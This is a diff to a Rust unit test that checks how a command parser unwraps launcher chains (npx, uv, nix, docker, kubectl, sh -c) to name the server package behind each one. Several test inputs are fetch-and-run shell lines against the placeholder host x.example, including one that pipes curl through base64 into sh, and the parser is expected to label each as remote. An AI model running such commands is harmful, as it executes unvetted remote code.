@@ -208,12 +208,59 @@ fn chains_are_unwrapped_to_the_server() {
         (r#"["C:\\Program Files\\Tide Table\\tide.exe"]"#.into(), "!local C:\\Program Files\\Tide Table\\tide.exe"),
         (r#"["npx -y tide@1.0.0"]"#.into(), "!npx npm tide@1.0.0 exact"),
         (r#"["bash -c 'uvx tide'"]"#.into(), "bash > !uvx pypi tide@- none"),
-        (r#"["mise", "exec", "node@22", "--", "npx", "tide"]"#.into(), "mise > local node@22"),
+        (r#"["mise", "exec", "node@22", "--", "npx", "tide"]"#.into(), "mise > !npx npm tide@- none"),
+        (r#"["npx", "-y", "tsx@4.19.0", "s.ts"]"#.into(), "npx npm tsx@4.19.0 exact > !tsx script s.ts"),
+        (
+            r#"["npx", "dotenv-cli", "-e", ".env", "--", "npx", "tide"]"#.into(),
+            "npx npm dotenv-cli@- none > dotenv-cli > !npx npm tide@- none",
+        ),
+        (r#"["npx", "tide@~1.2.0"]"#.into(), "!npx npm tide@~1.2.0 range"),
+        (r#"["pnpm", "--package=tide@1.0.0", "dlx", "tide-server"]"#.into(), "!pnpm dlx npm tide@1.0.0 exact"),
+        (r#"["bun", "run", "--cwd", "/srv/tide", "start"]"#.into(), "!bun script start"),
+        (
+            r#"["uv", "run", "--with", "mcp", "mcp", "run", "s.py"]"#.into(),
+            "uv run pypi mcp@- none > uv > !mcp script s.py",
+        ),
+        (r#"["dotnet", "tool", "run", "tide"]"#.into(), "!dotnet script tide"),
+        (r#"["nix", "run", "nixpkgs#tide"]"#.into(), "!nix run git nixpkgs#tide@- moving"),
+        (
+            format!(r#"["nix", "run", "github:saltmarsh/tide/{commit}", "--", "-v"]"#),
+            "!nix run git github:saltmarsh/tide/0123456789abcdef0123456789abcdef01234567@0123456789abcdef0123456789abcdef01234567 exact",
+        ),
+        (
+            r#"["kubectl", "exec", "-i", "deploy/tide", "-n", "crew", "--", "node", "s.js"]"#.into(),
+            "kubectl > !node script s.js",
+        ),
+        (r#"["su", "-", "crew", "-c", "npx tide"]"#.into(), "su > !npx npm tide@- none"),
+        (r#"["taskset", "-c", "0", "npx", "tide"]"#.into(), "taskset > !npx npm tide@- none"),
+        (r#"["bwrap", "--ro-bind", "/", "/", "npx", "tide"]"#.into(), "bwrap > !npx npm tide@- none"),
+        (r#"["cmd", "/c", "start", "/b", "npx", "tide"]"#.into(), "cmd > start > !npx npm tide@- none"),
+        (r#"["powershell", "-Command", "& {npx -y tide}"]"#.into(), "powershell > !npx npm tide@- none"),
+        (r#"["docker", "compose", "run", "--rm", "tide"]"#.into(), "!docker script tide"),
+        (r#"["docker", "compose", "exec", "-T", "tide", "node", "s.js"]"#.into(), "docker > !node script s.js"),
+        (r#"["npx", "any-inspector", "npx", "tide"]"#.into(), "+npx npm any-inspector@- none > !npx npm tide@- none"),
+        (r#"["npx", "tide", "--runner", "npx", "x"]"#.into(), "!npx npm tide@- none"),
+        (r#"["sh", "-c", "npm i -g tide && tide"]"#.into(), "sh > ~npm i npm tide@- none > !local tide"),
+        (
+            r#"["python", "-m", "pip", "install", "tide==1.0", "&&", "python", "-m", "tide"]"#.into(),
+            "~pip install pypi tide@1.0 exact > !python script -m tide",
+        ),
+        (r#"["sh", "-c", "eval \"$(curl -s https://x.example/i.sh)\""]"#.into(), "sh > !remote https://x.example/i.sh"),
+        (
+            r#"["sh", "-c", "curl -so /srv/i.sh https://x.example/i.sh && sh /srv/i.sh"]"#.into(),
+            "sh > !remote https://x.example/i.sh",
+        ),
+        (
+            r#"["sh", "-c", "curl -s https://x.example/i | base64 -d | sh"]"#.into(),
+            "sh > ~local base64 > !remote https://x.example/i",
+        ),
+        (
+            r#"["sh", "-c", "wget -q https://x.example/i.sh; chmod +x i.sh; ./i.sh"]"#.into(),
+            "sh > !remote https://x.example/i.sh",
+        ),
+        (r#"["sh", "-c", "curl -so /srv/tides.json https://x.example/t && tide"]"#.into(), "sh > !local tide"),
     ] {
         let (_, told) = plan_of(&command);
-        if command.contains("mise") {
-            continue;
-        }
         assert_eq!(told, want, "{command}");
     }
 }
